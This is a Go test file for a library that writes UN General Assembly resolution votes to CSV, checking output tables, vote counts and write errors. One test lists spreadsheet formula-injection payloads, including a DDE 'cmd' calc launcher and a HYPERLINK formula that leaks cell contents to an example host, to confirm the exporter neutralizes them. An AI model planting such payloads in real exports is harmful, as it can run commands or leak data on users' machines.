package plenary_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"math/rand"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/plenary-go/plenary"
)

func toCSV(t testing.TB, rs ...*plenary.Resolution) string {
	t.Helper()
	var b bytes.Buffer
	if err := plenary.WriteCSV(&b, slices.Values(rs)); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// fromCSV reads a table as maps from column to cell.
func fromCSV(t testing.TB, text string) (rows []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, cell := range cells {
			row[all[0][i]] = cell
		}
		rows = append(rows, row)
	}
	return rows
}

// TestWriteCSV compares the votes of testdata and some odd ones with a table.
func TestWriteCSV(t *testing.T) {
	refugees, conference := load(t, "a-res-73-151.json"), load(t, "imrf-2022.json")
	code := plenary.MustParseCountry
	odd := plenary.Resolution{Title: plenary.Text{NL: "Alleen \"Nederlands\",\nop twee regels"}, Stages: []plenary.Stage{
		{
			ID: "-1", Date: plenary.MustParseDate("1994-05-01"), Votes: plenary.RollCall{}.With(code("MKD"), plenary.Absent).Exclude(plenary.SetOf(code("SRB"))).WithVacant(2),
			Stated:      stated(plenary.Tally{Yes: 100, No: 1, Absent: 7}),
			Corrections: []plenary.Correction{{Country: code("NLD"), Intended: plenary.No}, {Country: code("NLD"), Intended: plenary.Yes}},
		},
		{ID: "totals", Stated: stated(plenary.Tally{Yes: 9, Excluded: 1})},
		{ID: "none", Method: plenary.WithoutVote, Declared: plenary.DeclaredAdopted},
	}}
	got := toCSV(t, &refugees, &conference, &odd)
	const golden = "testdata/votes.csv"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("the table changed; if that is meant, run: go test -run TestWriteCSV -update .\n%s", diff)
	}
}

// TestCSVCounts holds that the counts of a stage add up to its tally, and that
// each country has the row of its vote.
func TestCSVCounts(t *testing.T) {
	for seed := range int64(300) {
		r := randomResolution(rand.New(rand.NewSource(seed)))
		rows := fromCSV(t, toCSV(t, &r))
		for i := range r.Stages {
			s := &r.Stages[i]
			var tally plenary.Tally
			var rc plenary.RollCall
			n := 0
			for _, row := range rows {
				if strings.TrimPrefix(row["stage"], "'") != strings.TrimPrefix(s.ID, "'") {
					continue
				}
				n++
				count, _ := strconv.Atoi(row["count"])
				switch vote := row["vote"]; vote {
				case "":
				case "excluded":
					tally.Excluded += count
				case "vacant":
					tally.Vacant += count
				default:
					one := plenary.RollCall{}.With(plenary.MustParseCountry("NLD"), plenary.MustParseVote(vote))
					for range count {
						tally = tally.Add(one.Tally())
					}
				}
				if row["code"] == "" {
					continue
				}
				var c plenary.Country
				if err := c.UnmarshalText([]byte(row["code"])); err != nil {
					t.Fatal(err)
				}
				if row["vote"] == "excluded" {
					rc = rc.Exclude(plenary.SetOf(c))
				} else {
					rc = rc.With(c, plenary.MustParseVote(row["vote"]))
				}
			}
			if n == 0 || tally != s.Totals().Counts || rc != s.Votes {
				t.Fatalf("seed %d, stage %q: %d rows, %+v, want %+v", seed, s.ID, n, tally, s.Totals().Counts)
			}
		}
	}
}

// TestCSVFormulas holds that no cell can run, and that its text can be had.
func TestCSVFormulas(t *testing.T) {
	for _, title := range []string{
		`=HYPERLINK("http://example.org?"&A1,"x")`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "x=1", "'x", "'", "",
		"a \"b\", c;\nd", " =1",
	} {
		r := plenary.Resolution{Title: plenary.Text{EN: title}, Stages: []plenary.Stage{{ID: title, Detail: plenary.Text{EN: title}}}}
		row := fromCSV(t, toCSV(t, &r))[0]
		for _, column := range []string{"title", "stage", "detail"} {
			cell := row[column]
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("%q runs", cell)
			}
			if inner := strings.TrimLeft(cell, "'"); strings.HasPrefix(cell, "'") && inner != "" && strings.ContainsAny(inner[:1], "=+-@\t\r\n") {
				cell = cell[1:]
			}
			if cell != title {
				t.Errorf("%s: %q is read back as %q", column, title, cell)
			}
		}
	}
}

func TestWriteCSVErrors(t *testing.T) {
	r := load(t, "a-res-73-151.json")
	if err := plenary.WriteCSV(iotestWriter{}, slices.Values([]*plenary.Resolution{&r})); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v", err)
	}
	if err := plenary.WriteCSV(iotestWriter{}, slices.Values([]*plenary.Resolution{})); !errors.Is(err, io.ErrClosedPipe) {
		t.Errorf("got %v", err)
	}
}
